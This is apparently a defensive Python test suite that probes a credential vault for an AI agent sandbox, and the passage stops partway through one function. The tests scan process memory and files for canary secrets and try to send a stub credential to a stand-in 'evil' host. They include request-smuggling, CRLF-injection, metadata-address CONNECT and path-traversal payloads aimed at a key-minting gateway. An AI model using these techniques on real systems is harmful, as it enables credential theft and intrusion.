"""Learning a real credential, and spending one where it is not meant."""

# The tools bring the standard library along.
from tools import *


@attempt('secrets', 'environment, arguments and memory of every process; every file; every descriptor')
def everywhere():
    needles = {name: value.encode() for name, value in CANARIES.items()}
    looked, kept_out = 0, 0

    def look(data, where):
        nonlocal looked
        looked += len(data)
        for name, needle in needles.items():
            if needle in data:
                raise Breach('%s is in %s' % (name, where))

    own = {os.getpid(), os.getppid()}
    for pid in map(int, filter(str.isdigit, os.listdir('/proc'))):
        for name in ('environ', 'cmdline', 'maps', 'status', 'stat', 'limits'):
            try:
                look(open('/proc/%d/%s' % (pid, name), 'rb').read(), '%s of %d' % (name, pid))
            except OSError:
                kept_out += 1
        if pid in own:
            continue
        try:
            maps, memory = open('/proc/%d/maps' % pid).read().splitlines(), open('/proc/%d/mem' % pid, 'rb', 0)
        except OSError:
            kept_out += 1
            continue
        for line in maps:
            if match := re.match(r'([0-9a-f]+)-([0-9a-f]+) r', line):
                start, end = (int(part, 16) for part in match.groups())
                try:
                    memory.seek(start)
                    look(memory.read(min(end - start, 64 << 20)), 'memory of %d' % pid)
                except (OSError, ValueError, OverflowError):
                    pass
    for top in ('/work', '/home', '/tmp', '/run', '/etc', '/dev/shm', '/var', '/opt/lap/harness'):
        for folder, _, files in os.walk(top):
            for name in files:
                path = os.path.join(folder, name)
                if os.path.isfile(path):
                    try:
                        look(open(path, 'rb').read(32 << 20), path)
                    except OSError:
                        kept_out += 1
    if looked < 1 << 16 or kept_out == 0:
        raise RuntimeError('the search saw %d bytes' % looked)
    return 'looked at %d bytes, kept out of %d places' % (looked, kept_out)


@attempt('secrets', 'the legitimate use, so that the rest means something')
def control():
    answer = get('/plain', bearer())
    if answer.status != 200 or answer.headers.get('x-got') != 'real':
        raise RuntimeError('the credential did not arrive: %r' % answer.raw)
    if stub('BOUND_TOKEN').encode() not in answer.body:
        raise RuntimeError('no stub came back: %r' % answer.raw)
    return 'the real value arrived, its stub came back'


REFLECTIONS = [
    ('plain', 'plainly'), ('json', 'inside JSON'), ('percent', 'percent-encoded'), ('percent-lower', 'percent-encoded, small letters'), ('base64', 'as base64'),
    ('base64-1', 'as base64, one byte shifted'), ('base64-2', 'as base64, two bytes shifted'), ('base64url', 'as URL-safe base64'), ('basic', 'as a Basic credential'),
    ('hex', 'as hexadecimal digits'), ('HEX', 'as large hexadecimal digits'), ('gzip', 'packed with gzip'), ('deflate', 'packed with deflate'), ('br', 'packed with brotli'),
    ('zstd', 'packed with zstd'), ('GZIP', 'packed with a coding in capitals'), ('x-gzip', 'packed with x-gzip'), ('gzip-members', 'in two gzip members'),
    ('gzip-te', 'packed by Transfer-Encoding'), ('gzip-twice', 'packed twice'), ('gzip-twice-headers', 'packed twice, said in two headers'), ('unknown', 'in a coding nobody knows'),
    ('chunks', 'in chunks of one byte'), ('chunk-ext', 'in chunk extensions'), ('drip', 'byte by byte with pauses'), ('close', 'without a length'), ('partial', 'as a range nobody asked for'),
    ('header', 'in a header'), ('header-name', 'as the name of a header'), ('header-base64', 'in a header as base64'), ('cookie', 'in a cookie'), ('location', 'in a redirection'),
    ('reason', 'as the reason beside the status'), ('early', 'in early hints'), ('trailer', 'in a trailer'), ('trailer-name', 'as the name of a trailer'), ('error', 'in an error page'),
    ('multipart', 'in a multipart body'), ('large', 'after a megabyte'), ('twice', 'many times over'), ('obs-fold', 'in a folded header'), ('www-auth', 'in a challenge')]


@many('secrets', [('reflect_' + how.replace('-', '_'), 'the server sends the value back ' + words, how) for how, words in REFLECTIONS])
def reflect(how):
    answer = get('/' + how, bearer(), 'Accept-Encoding: gzip, deflate, br, zstd', 'TE: trailers')
    if answer.headers.get('x-got') == 'real':
        return '%d, scrubbed' % answer.status
    if answer.blocked in ('encoding', 'upstream'):
        return '%d %s' % (answer.status, answer.blocked)
    raise RuntimeError('unexpected: %r' % answer.raw[:300])


@many('secrets', [('range_' + name, 'read the value byte by byte with ' + words, headers) for name, words, headers in [
    ('plain', 'Range', ['Range: bytes=%d-%d']), ('if', 'If-Range', ['Range: bytes=%d-%d', 'If-Range: "x"']), ('request', 'Request-Range', ['Request-Range: bytes=%d-%d']),
    ('websocket', 'Range in a WebSocket handshake', ['Range: bytes=%d-%d', 'Upgrade: websocket', 'Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==', 'Sec-WebSocket-Version: 13'])]])
def ranges(headers):
    learned = b''
    for at in range(8):
        extra = [line % (at, at) if '%d' in line else line for line in headers]
        closing = 'Connection: upgrade' if any('websocket' in line for line in headers) else 'X-Nothing: 1'
        answer = get('/range', bearer(), closing, *extra)
        learned += answer.body if len(answer.body) == 1 else b'?'
    if learned.decode('latin-1') == CANARIES['BOUND_TOKEN'][:8]:
        raise Breach('the first bytes were learned')
    if b'?' not in learned:
        raise RuntimeError('single bytes, but others: %r' % learned)
    return 'the whole answer came each time'


@attempt('secrets', 'an answer in a coding the vault cannot read, to a WebSocket handshake that is refused')
def websocket_coding():
    answer = get('/unknown', bearer(), 'Upgrade: websocket', 'Connection: upgrade', 'Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==', 'Sec-WebSocket-Version: 13')
    return blocked(answer, 'encoding')


@attempt('secrets', 'the value in WebSocket frames from the server')
def websocket_frames():
    answer = get('/ws', bearer(), 'Upgrade: websocket', 'Connection: upgrade', 'Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==', 'Sec-WebSocket-Version: 13',
                 'Sec-WebSocket-Extensions: permessage-deflate')
    if answer.status != 101 or stub('BOUND_TOKEN').encode() not in answer.raw:
        raise RuntimeError('no frame came: %r' % answer.raw[:300])
    return 'a frame came, with the stub'


@attempt('secrets', 'an answer smuggled behind another, for the next request to find')
def response_smuggling():
    for _ in range(4):
        get('/extra', bearer())
        if b'smuggled' in get('/plain', bearer()).body:
            raise Breach('the next request got the smuggled answer')
    return 'never seen'


@many('secrets', [('redirect_%d' % status, 'a redirection to another host, followed with the credential', status) for status in (301, 302, 307, 308)])
def redirect(status):
    to = 'https://%s:%d/stolen' % (EVIL['name'], EVIL['tls'])
    answer = get('/redirect?status=%d&to=%s' % (status, urllib.parse.quote(to, safe='')), bearer())
    if answer.headers.get('location') != to:
        raise RuntimeError('no redirection: %r' % answer.raw)
    return blocked(get('/stolen', bearer(), host=EVIL['name'], port=EVIL['tls']), 'misdirected_stub')


WRONG = [
    ('authorization', 'Authorization: Bearer {}'), ('basic', 'Authorization: Basic {basic}'), ('basic_user', 'Authorization: Basic {basic_user}'), ('token', 'Authorization: token {}'),
    ('proxy', 'Proxy-Authorization: Bearer {}'), ('cookie', 'Cookie: a=b; session={}; c=d'), ('api_key', 'x-api-key: {}'), ('custom', 'X-Custom-Token: {}'), ('gitlab', 'PRIVATE-TOKEN: {}'),
    ('inner', 'Authorization: Bearer xx{}yy'), ('capitals', 'AUTHORIZATION: bEaReR {}'), ('tabs', 'Authorization:\t Bearer\t{}'), ('ws', 'Sec-WebSocket-Protocol: bearer, {}'),
    ('amz', 'X-Amz-Security-Token: {}'), ('forwarded_auth', 'X-Forwarded-Authorization: Bearer {}')]


def filled(text, value):
    basic, user = base64.b64encode(b'user:' + value.encode()).decode(), base64.b64encode(value.encode() + b':x').decode()
    return text.format(value, basic=basic, basic_user=user)


@many('secrets', [('wrong_host_' + name, 'toward another host in `%s`' % text.split(':')[0], text) for name, text in WRONG])
def wrong_host(text):
    return blocked(get('/wrong', filled(text, stub('BOUND_TOKEN')), host=EVIL['name'], port=EVIL['tls']), 'misdirected_stub')


def as_text(*arguments, host=None, port=None, **more):
    """A request that passes with the stub in it as plain text; the test looks at what arrived."""
    answer = get(*arguments, host=host or EVIL['name'], port=port or EVIL['tls'], **more)
    if answer.status != 200 or answer.headers.get('x-got') == 'real':
        raise Breach('%d %s %s' % (answer.status, answer.blocked, answer.headers.get('x-got')))
    return 'passed as text, a stub it stays'


PLACES = [('query', '/q?token={}', [], b''), ('path', '/p/{}/x', [], b''), ('body', '/b', [], b'text {} text'), ('json', '/b', ['Content-Type: application/json'], b'{{"comment": "{}"}}'),
          ('form', '/b', ['Content-Type: application/x-www-form-urlencoded'], b'comment={}'), ('header', '/h', ['X-Comment: {}'], b''), ('user_agent', '/h', ['User-Agent: {}'], b''),
          ('referer', '/h', ['Referer: https://x/{}'], b''), ('forwarded', '/h', ['X-Forwarded-For: {}'], b'')]


@many('secrets', [('%s_in_%s' % (where, name), 'publish one\'s own stub in the %s, on %s' % (name, 'its own host' if where == 'bound' else 'another host'), where, path, headers, body)
                  for where in ('bound', 'evil') for name, path, headers, body in PLACES])
def published(where, path, headers, body):
    value = stub('BOUND_TOKEN')
    host = (BOUND if where == 'bound' else EVIL)
    return as_text(path.format(value), *[line.format(value) for line in headers], host=host['name'], port=host['tls'], method='POST' if body else 'GET',
                   body=body.replace(b'{}', value.encode()))


@attempt('secrets', 'publish it together with a legitimate use of the same credential')
def published_beside():
    value = stub('BOUND_TOKEN')
    answer = get('/echo-body', bearer(), 'Content-Type: application/json', method='POST', body=json.dumps({'comment': value}).encode())
    if answer.headers.get('x-got') != 'real' or answer.headers.get('x-body') != 'clean':
        raise Breach('the body arrived with %s' % answer.headers.get('x-body'))
    return 'the header was swapped, the comment was not'


@many('secrets', [(name, words, build) for name, words, build in [
    ('encoded_twice', 'the stub percent-encoded twice in the query', lambda s: ('/q?x=' + urllib.parse.quote(''.join('%%%02x' % b for b in s.encode())), [])),
    ('encoded_once', 'the stub percent-encoded in the path', lambda s: ('/p/' + ''.join('%%%02x' % b for b in s.encode()), [])),
    ('basic_in_basic', 'Basic inside Basic', lambda s: ('/x', ['Authorization: Basic ' + base64.b64encode(b'a:' + base64.b64encode(s.encode())).decode()])),
    ('base64_bearer', 'the stub as base64 in a Bearer', lambda s: ('/x', ['Authorization: Bearer ' + base64.b64encode(s.encode()).decode()])),
    ('digest', 'the stub in two halves of one header', lambda s: ('/x', ['Authorization: Digest a="%s", b="%s"' % (s[:12], s[12:])])),
    ('two_headers', 'the stub in two halves of a repeated header', lambda s: ('/x', ['X-Auth-Token: ' + s[:12], 'X-Auth-Token: ' + s[12:]])),
    ('capital_stub', 'the stub in capitals', lambda s: ('/x', ['Authorization: Bearer ' + s.upper()])),
    ('shortened', 'the stub without its last digit', lambda s: ('/x', ['Authorization: Bearer ' + s[:-1]]))]])
def disguised(build):
    path, headers = build(stub('BOUND_TOKEN'))
    return as_text(path, *headers)


@attempt('secrets', 'the stub split over chunks of a body, toward its own host')
def split_chunks():
    value = stub('BOUND_TOKEN').encode()
    chunks = b''.join(b'1\r\n%c\r\n' % byte for byte in value) + b'0\r\n\r\n'
    head = 'POST /b HTTP/1.1\r\nHost: %s:%d\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n' % (BOUND['name'], BOUND['tls'])
    answer = talk([head.encode()] + [chunks[i:i + 7] for i in range(0, len(chunks), 7)])
    if answer.headers.get('x-body') != 'clean':
        raise Breach('the body arrived with %s' % answer.headers.get('x-body'))
    return 'a stub it stays'


@attempt('secrets', 'the stub in a trailer of the request')
def request_trailer():
    head = 'POST /b HTTP/1.1\r\nHost: %s:%d\r\nTransfer-Encoding: chunked\r\nTrailer: Authorization\r\nConnection: close\r\n\r\n' % (EVIL['name'], EVIL['tls'])
    answer = talk(head.encode() + b'1\r\nx\r\n0\r\nAuthorization: Bearer ' + stub('BOUND_TOKEN').encode() + b'\r\n\r\n', EVIL['name'], EVIL['tls'])
    if answer.headers.get('x-got') == 'real':
        raise Breach('it arrived')
    return 'answered %d without the value' % answer.status


INJECTIONS = [('bearer', '/x', 'Authorization: Bearer {}', b''), ('basic', '/x', 'Authorization: Basic {basic}', b''), ('cookie', '/x', 'Cookie: a={}', b''), ('path', '/p/{}', 'X-A: 1', b''),
              ('query', '/q?a={}', 'X-A: 1', b''), ('header', '/x', 'X-Comment: {}', b'')]


@many('secrets', [('crlf_' + name, 'a value with line breaks, to write a request of one\'s own through %s' % name, path, header, body) for name, path, header, body in INJECTIONS])
def line_breaks(path, header, body):
    value = stub('CRLF_TOKEN')
    answer = get(path.format(value), filled(header, value))
    if answer.blocked == 'unusable_secret':
        return '403 unusable_secret'
    if answer.headers.get('x-injected') == 'yes':
        raise Breach('the injected header arrived')
    if answer.status == 200 and (path.startswith(('/p/', '/q')) or 'Basic' in header):
        return 'carried in a coding, no line was made of it'
    raise Breach('%d %s: %r' % (answer.status, answer.blocked, answer.raw[:200]))


@attempt('secrets', 'a value with quotes and line breaks, to change the meaning of JSON around it')
def json_injection():
    answer = get('/b', 'Content-Type: application/json', method='POST', body=b'{"a": "%s"}' % stub('CRLF_TOKEN').encode())
    if answer.headers.get('x-json') != 'whole':
        raise Breach('the JSON arrived %s' % answer.headers.get('x-json'))
    return 'escaped'


@attempt('secrets', 'a credential whose rule names no port, over plain http')
def plain_http():
    return blocked(get('/x', 'Authorization: Bearer ' + stub('NOPORT_TOKEN'), port=BOUND['plain'], tls=False), 'misdirected_stub')


@attempt('secrets', 'a credential bound to one port, at another port of its host')
def other_port():
    return blocked(get('/x', bearer(), port=BOUND['plain'], tls=False), 'misdirected_stub')


@many('secrets', [(name, words, build) for name, words, build in [
    ('sni_host', 'TLS for the bound host, Host of another', lambda: dict(sni=BOUND['name'], authority='%s:%d' % (EVIL['name'], EVIL['tls']))),
    ('host_case', 'Host with a name that only looks alike', lambda: dict(authority='%s:%d' % (BOUND['name'] + '.evil.test', BOUND['tls']))),
    ('host_port', 'Host with another port', lambda: dict(authority='%s:%d' % (BOUND['name'], EVIL['tls']))),
    ('host_userinfo', 'Host with user info before another name', lambda: dict(authority='%s:%d@%s:%d' % (BOUND['name'], BOUND['tls'], EVIL['name'], EVIL['tls']))),
    ('host_comma', 'two names in one Host', lambda: dict(authority='%s:%d, %s' % (BOUND['name'], BOUND['tls'], EVIL['name']))),
    ('host_space', 'Host with a space', lambda: dict(authority='%s:%d %s' % (BOUND['name'], BOUND['tls'], EVIL['name']))),
    ('sni_other', 'a connection to another host with the bound host as SNI and Host', lambda: dict(host=EVIL['name'], port=EVIL['tls'], sni=BOUND['name'], authority='%s:%d' % (BOUND['name'], BOUND['tls']))),
    ('sni_other_port', 'the same with the port of the connection', lambda: dict(host=EVIL['name'], port=EVIL['tls'], sni=BOUND['name'], authority='%s:%d' % (BOUND['name'], EVIL['tls']))),
    ('host_other', 'a connection to another host with the bound host as Host', lambda: dict(host=EVIL['name'], port=EVIL['tls'], sni=EVIL['name'], authority='%s:%d' % (BOUND['name'], EVIL['tls'])))]])
def disagree(build):
    answer = get('/disagree', bearer(), **build())
    if answer.status == 400 and not answer.blocked:
        return '400, not even parsed'
    return blocked(answer, 'misdirected', 'bad_request')


@attempt('secrets', 'an absolute URI for the bound host, Host of another')
def absolute_form():
    raw = 'GET https://%s:%d/abs HTTP/1.1\r\nHost: %s:%d\r\n%s\r\nConnection: close\r\n\r\n' % (BOUND['name'], BOUND['tls'], EVIL['name'], EVIL['tls'], bearer())
    return blocked(talk(raw.encode(), EVIL['name'], EVIL['tls']), 'misdirected', 'bad_request')


@attempt('secrets', 'the explicit proxy: an absolute URI with another Host')
def absolute_form_proxy():
    raw = 'GET http://%s:%d/abs HTTP/1.1\r\nHost: %s:%d\r\n%s\r\nConnection: close\r\n\r\n' % (EVIL['name'], EVIL['plain'], BOUND['name'], BOUND['plain'], bearer())
    return blocked(talk(raw.encode(), sock=proxy()), 'misdirected', 'bad_request')


@attempt('secrets', 'two Host headers')
def two_hosts():
    raw = 'GET /two HTTP/1.1\r\nHost: %s:%d\r\nHost: %s:%d\r\n%s\r\nConnection: close\r\n\r\n' % (BOUND['name'], BOUND['tls'], EVIL['name'], EVIL['tls'], bearer())
    return blocked(talk(raw.encode()), 'bad_request')


@attempt('secrets', 'no Host at all')
def no_host():
    raw = 'GET /none HTTP/1.0\r\n%s\r\n\r\n' % bearer()
    answer = talk(raw.encode(), EVIL['name'], EVIL['tls'])
    return blocked(answer, 'bad_request', 'misdirected_stub')


def connect(target):
    sock = proxy()
    sock.sendall(('CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n' % (target, target)).encode())
    head = b''
    while b'\r\n\r\n' not in head and (chunk := sock.recv(1)):
        head += chunk
    if b' 200' in head.split(b'\r\n')[0]:
        return sock, Answer(head)
    sock.settimeout(PATIENCE)
    sock.shutdown(socket.SHUT_WR)
    return sock, Answer(head + read_all(sock))


@attempt('secrets', 'CONNECT to an address, TLS and Host for the bound host')
def connect_address():
    sock, answer = connect('192.0.2.7:%d' % BOUND['tls'])
    if answer.status != 200:
        return blocked(answer, 'private_address', 'not_allowed', 'denied')
    return blocked(get('/connect', bearer(), sock=open_tls(None, None, BOUND['name'], sock=sock)), 'misdirected', 'private_address', 'misdirected_stub')


@attempt('secrets', 'CONNECT to another host, TLS and Host for the bound one')
def connect_other():
    sock, answer = connect('%s:%d' % (EVIL['name'], EVIL['tls']))
    if answer.status != 200:
        raise RuntimeError('no tunnel: %r' % answer.raw)
    return blocked(get('/connect', bearer(), sock=open_tls(None, None, BOUND['name'], sock=sock)), 'misdirected')


@attempt('secrets', 'CONNECT to loopback and metadata')
def connect_inside():
    seen = set()
    for target in ('127.0.0.1:%d' % WORLD['host_tcp'], '169.254.169.254:80', '[::1]:%d' % WORLD['host_tcp'], 'localhost:%d' % WORLD['host_tcp'], '0x7f000001:80', '127.1:80'):
        sock, answer = connect(target)
        if answer.status == 200:
            sock.settimeout(PATIENCE)
            answer = get('/', host=target.rsplit(':', 1)[0], tls=False, authority=target, sock=sock)
        if answer.status == 400 and not answer.blocked:
            seen.add('400')
            continue
        seen.add(blocked(answer, 'private_address', 'metadata', 'bad_request', 'dns'))
    return ', '.join(sorted(seen))


@attempt('secrets', 'CONNECT inside a connection that is the vault\'s already')
def connect_nested():
    raw = 'CONNECT %s:%d HTTP/1.1\r\nHost: %s:%d\r\nConnection: close\r\n\r\n' % (EVIL['name'], EVIL['raw'], BOUND['name'], BOUND['tls'])
    return blocked(talk(raw.encode()), 'bad_request', 'misdirected')


def http2(headers, host=None, port=None):
    """One request over HTTP/2 with exactly these headers: whatever data came back."""
    sock = open_tls(host or BOUND['name'], port or BOUND['tls'], alpn=['h2'])
    if sock.selected_alpn_protocol() != 'h2':
        raise RuntimeError('no HTTP/2')

    def text(value):
        value = value.encode()
        size = bytes([len(value)]) if len(value) < 127 else bytes([127, (len(value) - 127) & 127 | 128, (len(value) - 127) >> 7])
        return size + value

    block = b''.join(b'\x10' + text(name) + text(value) for name, value in headers)
    frame = lambda kind, flags, stream, payload: struct.pack('>I', len(payload))[1:] + bytes([kind, flags]) + struct.pack('>I', stream) + payload
    sock.sendall(b'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n' + frame(4, 0, 0, b'') + frame(1, 5, 1, block))
    sock.settimeout(PATIENCE)
    buffer, data, raw = b'', b'', b''
    while True:
        while len(buffer) < 9 or len(buffer) < 9 + int.from_bytes(buffer[:3], 'big'):
            chunk = sock.recv(65536)
            if not chunk:
                return data, raw, 'closed'
            buffer, raw = buffer + chunk, raw + chunk
        size, kind, flags, stream = int.from_bytes(buffer[:3], 'big'), buffer[3], buffer[4], int.from_bytes(buffer[5:9], 'big')
        payload, buffer = buffer[9:9 + size], buffer[9 + size:]
        if kind == 0:
            data += payload
        if stream == 1 and kind == 3:
            return data, raw, 'reset'
        if kind == 7:
            return data, raw, 'goaway'
        if stream == 1 and flags & 1 and kind in (0, 1):
            return data, raw, 'ended'


@many('secrets', [(name, words, build) for name, words, build in [
    ('h2_authority', ':authority of another host on a connection to the bound one', lambda b, e: [(':authority', e)]),
    ('h2_authority_host', ':authority of the bound host, host of another', lambda b, e: [(':authority', b), ('host', e)]),
    ('h2_two_authorities', 'two :authority', lambda b, e: [(':authority', b), (':authority', e)]),
    ('h2_userinfo', ':authority with user info', lambda b, e: [(':authority', b + '@' + e)]),
    ('h2_none', 'no :authority, host of another', lambda b, e: [('host', e)])]])
def http2_authority(build):
    bound, evil = '%s:%d' % (BOUND['name'], BOUND['tls']), '%s:%d' % (EVIL['name'], EVIL['tls'])
    names = build(bound, evil)
    pseudo = [(':method', 'GET'), (':scheme', 'https'), (':path', '/h2')] + [pair for pair in names if pair[0].startswith(':')]
    data, raw, end = http2(pseudo + [('authorization', 'Bearer ' + stub('BOUND_TOKEN'))] + [pair for pair in names if not pair[0].startswith(':')])
    clean(raw, 'the answer')
    # Refusals of the vault begin so; the servers here say something else.
    if data.startswith(b'LAP: ') or end in ('reset', 'goaway'):
        return '%s %s' % (end, data[:60].decode('latin-1'))
    raise Breach('%s: %r' % (end, data[:200]))


@many('secrets', [(name, words, headers) for name, words, headers in [
    ('h2_te', 'HTTP/2 with transfer-encoding, for a server behind that speaks HTTP/1.1', [('transfer-encoding', 'chunked')]),
    ('h2_crlf', 'HTTP/2 with line breaks in a header', [('x-a', 'b\r\nx-injected: yes\r\n\r\nGET /smuggled HTTP/1.1\r\n')]),
    ('h2_connection', 'HTTP/2 with connection headers', [('connection', 'keep-alive, x')]),
    ('h2_length', 'HTTP/2 with a content-length that lies', [('content-length', '5')]),
    ('h2_name', 'HTTP/2 with a colon in a name', [('x:injected', 'yes')])]])
def http2_downgrade(headers):
    authority = '%s:%d' % (BOUND['name'], BOUND['tls'])
    data, raw, end = http2([(':method', 'POST'), (':scheme', 'https'), (':path', '/h2'), (':authority', authority), ('authorization', 'Bearer ' + stub('BOUND_TOKEN')), *headers])
    clean(raw, 'the answer')
    if end in ('reset', 'goaway', 'closed') or data.startswith(b'LAP: '):
        return end
    raise Breach('%s: %r' % (end, data[:200]))


@many('secrets', [('h2_' + name, 'a server that sends a body where none belongs: ' + name, method, path) for name, method, path in
                  [('head_body', 'HEAD', '/head'), ('no_content_body', 'GET', '/204'), ('not_modified_body', 'GET', '/304'), ('trailer', 'GET', '/trailer')]])
def http2_bodies(method, path):
    authority = '%s:%d' % (BOUND['name'], BOUND['h2'])
    data, raw, end = http2([(':method', method), (':scheme', 'https'), (':path', path), (':authority', authority), ('authorization', 'Bearer ' + stub('BOUND_TOKEN'))],
                           port=BOUND['h2'])
    clean(raw, 'the answer')
    if not raw:
        raise RuntimeError('nothing came')
    return '%s, %d bytes' % (end, len(data))


SMUGGLE = b'GET /smuggled HTTP/1.1\r\nHost: x\r\n\r\n'


@many('secrets', [('smuggle_' + name, words, lines, body) for name, words, lines, body in [
    ('cl_te', 'Content-Length beside Transfer-Encoding', ['Content-Length: 5', 'Transfer-Encoding: chunked'], b'0\r\n\r\n' + SMUGGLE),
    ('te_cl', 'the same, lengths exchanged', ['Transfer-Encoding: chunked', 'Content-Length: 3'], b'1\r\nx\r\n0\r\n\r\n' + SMUGGLE),
    ('te_te', 'two Transfer-Encodings', ['Transfer-Encoding: chunked', 'Transfer-Encoding: identity'], b'0\r\n\r\n' + SMUGGLE),
    ('te_x', 'an unknown Transfer-Encoding', ['Transfer-Encoding: xchunked'], b'0\r\n\r\n' + SMUGGLE),
    ('te_space', 'Transfer-Encoding with a space before its colon', ['Transfer-Encoding : chunked'], b'0\r\n\r\n' + SMUGGLE),
    ('te_tab', 'Transfer-Encoding behind a vertical tab', ['Transfer-Encoding: \x0bchunked'], b'0\r\n\r\n' + SMUGGLE),
    ('te_gzip', 'Transfer-Encoding: gzip, chunked', ['Transfer-Encoding: gzip, chunked'], b'0\r\n\r\n' + SMUGGLE),
    ('cl_cl', 'two lengths that differ', ['Content-Length: 0', 'Content-Length: %d' % len(SMUGGLE)], SMUGGLE),
    ('cl_list', 'two lengths in one header', ['Content-Length: 0, %d' % len(SMUGGLE)], SMUGGLE),
    ('cl_plus', 'a length with a sign', ['Content-Length: +0'], SMUGGLE), ('cl_negative', 'a negative length', ['Content-Length: -1'], SMUGGLE),
    ('cl_huge', 'a length that overflows', ['Content-Length: 18446744073709551616'], SMUGGLE), ('cl_hex', 'a length in hexadecimal', ['Content-Length: 0x10'], SMUGGLE),
    ('fold', 'a folded header', ['X-A: b', ' Transfer-Encoding: chunked'], b'0\r\n\r\n' + SMUGGLE), ('bare_cr', 'a bare carriage return', ['X-A: b\rTransfer-Encoding: chunked'], SMUGGLE),
    ('nul', 'a zero byte in a header', ['X-A: b\0c'], SMUGGLE), ('chunk_size', 'a chunk size that overflows', ['Transfer-Encoding: chunked'], b'10000000000000000\r\n' + SMUGGLE),
    ('chunk_ext', 'a line break in a chunk extension', ['Transfer-Encoding: chunked'], b'1;a=\nb\r\nx\r\n0\r\n\r\n' + SMUGGLE),
    ('chunk_lf', 'chunks with bare line feeds', ['Transfer-Encoding: chunked'], b'1\nx\n0\n\n' + SMUGGLE), ('bare_lf', 'a head with bare line feeds', ['X-A: b\n\nGET /smuggled HTTP/1.1'], b''),
    ('hop', 'Connection: names Content-Length a hop header', ['Connection: content-length', 'Content-Length: %d' % len(SMUGGLE)], SMUGGLE),
    ('expect', 'Expect with a body that follows anyway', ['Expect: 100-continue', 'Content-Length: 0'], SMUGGLE), ('h2c', 'an upgrade to HTTP/2 in clear', ['Upgrade: h2c', 'HTTP2-Settings: AAAA', 'Connection: Upgrade, HTTP2-Settings'], SMUGGLE)]])
def smuggle(lines, body):
    """What follows may reach the server only as a request of its own, judged like any other; this one names a wrong host."""
    head = '\r\n'.join(['POST /outer HTTP/1.1', 'Host: %s:%d' % (BOUND['name'], BOUND['tls']), bearer(), *lines]) + '\r\n\r\n'
    sock = open_tls(BOUND['name'], BOUND['tls'])
    sock.sendall(head.encode('latin-1') + body)
    # Whether it arrived, the server knows for certain; here it is enough to hear the first answers.
    raw, end = b'', 'closed'
    try:
        sock.settimeout(1)
        while chunk := sock.recv(65536):
            raw += chunk
            sock.settimeout(0.1)
    except (TimeoutError, ConnectionResetError, ssl.SSLError) as problem:
        end = type(problem).__name__
    clean(raw, 'the answer')
    if b'smuggled-answer' in raw:
        raise Breach('the smuggled request was answered')
    return 'not answered; heard: ' + ', '.join(line.decode('latin-1') for line in re.findall(rb'HTTP/1.1 \d+|x-lap-blocked: \w+', raw)) + ', then ' + end


KEY = 'LITELLM_API_KEY'
ODD_ROUTES = ['/key/generate', '/v1/key/generate', '//key/generate', '/v1/../key/generate', '/v1/messages/../../key/generate', '/v1/%2e%2e/key/generate', '/v1/messages/%2e%2e/%2e%2e/key/generate',
              '/KEY/generate', '/Key/Generate', '/v1/messages/..%2f..%2fkey/generate', '/v1/messages;/../../key/generate', '/v1/messages%00/key/generate', '/%6bey/generate', '/key%2fgenerate',
              '/.//key/generate', '/v1/models/../../key/generate', '/v1/models/..%2f..%2fkey%2fgenerate', '/user/new', '/team/new', '/config/update', '/v1/models/x?/../key/generate', '/v1/messages/\\..\\key\\generate',
              '/global/spend', '/health', '/openai/deployments/x/chat/completions', '/anthropic/v1/messages', '/v1/files', '/v1/assistants']


@many('secrets', [('gateway_%d' % number, 'mint a key at the gateway: POST ' + path.replace('\\', '/').replace('\0', ''), path) for number, path in enumerate(ODD_ROUTES)])
def gateway_routes(path):
    answer = get(path, 'Authorization: Bearer ' + stub(KEY), 'Content-Type: application/json', host='gateway.lap.internal', port=80, tls=False, method='POST', body=b'{}', authority='gateway.lap.internal')
    if answer.status == 400 and not answer.blocked:
        return '400, not even parsed'
    return blocked(answer, 'gateway_route', 'bad_request')


@many('secrets', [('gateway_method_' + method.lower(), 'a model route with ' + method, method, headers) for method, headers in
                  [('PUT', []), ('DELETE', []), ('PATCH', []), ('TRACE', []), ('OPTIONS', []), ('GET', ['X-HTTP-Method-Override: POST', 'X-Original-URL: /key/generate', 'X-Rewrite-URL: /key/generate'])]])
def gateway_methods(method, headers):
    return blocked(get('/v1/chat/completions', 'Authorization: Bearer ' + stub(KEY), *headers, host='gateway.lap.internal', port=80, tls=False, method=method, authority='gateway.lap.internal'), 'gateway_route')


@attempt('secrets', 'a credential of a host elsewhere, toward a host that has one of its own')
def elsewhere():
    return blocked(get('/x', 'Authorization: Bearer ' + stub('ELSE_TOKEN')), 'misdirected_stub')


@attempt('secrets', 'the gateway\'s key toward another host')
def gateway_key_elsewhere():
    return blocked(get('/k', 'Authorization: Bearer ' + stub(KEY), host=EVIL['name'], port=EVIL['tls']), 'misdirected_stub')


@attempt('secrets', 'the gateway\'s key toward the gateway\'s real address')
def gateway_key_directly():
    raw = 'POST http://127.0.0.1:%d/key/generate HTTP/1.1\r\nHost: 127.0.0.1:%d\r\nAuthorization: Bearer %s\r\nContent-Length: 0\r\nConnection: close\r\n\r\n' % (WORLD['gateway_port'], WORLD['gateway_port'], stub(KEY))
    return blocked(talk(raw.encode(), sock=proxy()), 'private_address', 'misdirected_stub')


@attempt('secrets', 'another credential at the gateway')
def other_key_at_gateway():
    return blocked(get('/v1/models', bearer(), host='gateway.lap.internal', port=80, tls=False, authority='gateway.lap.internal'), 'misdirected_stub')


@attempt('secrets', 'the gateway\'s key in the body and query of a model route')
def gateway_key_in_body():
    body = json.dumps({'model': 'test-model', 'messages': [{'role': 'user', 'content': stub(KEY)}], 'api_key': stub(KEY)}).encode()
    answer = get('/v1/chat/completions?key=' + stub(KEY), 'Authorization: Bearer ' + stub(KEY), 'Content-Type: application/json', host='gateway.lap.internal', port=80, tls=False, method='POST', body=body,
                 authority='gateway.lap.internal')
    if answer.status != 200:
        raise RuntimeError('%r' % answer.raw[:300])
    return 'answered 200; the test looks at what arrived'


@attempt('secrets', 'a WebSocket at the gateway')
def gateway_websocket():
    return blocked(get('/v1/responses', 'Authorization: Bearer ' + stub(KEY), 'Upgrade: websocket', 'Connection: upgrade', 'Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==', 'Sec-WebSocket-Version: 13',
                       host='gateway.lap.internal', port=80, tls=False, authority='gateway.lap.internal'), 'gateway_route')


@attempt('secrets', 'make answers of the vault say what the agent likes')
def forged_refusal():
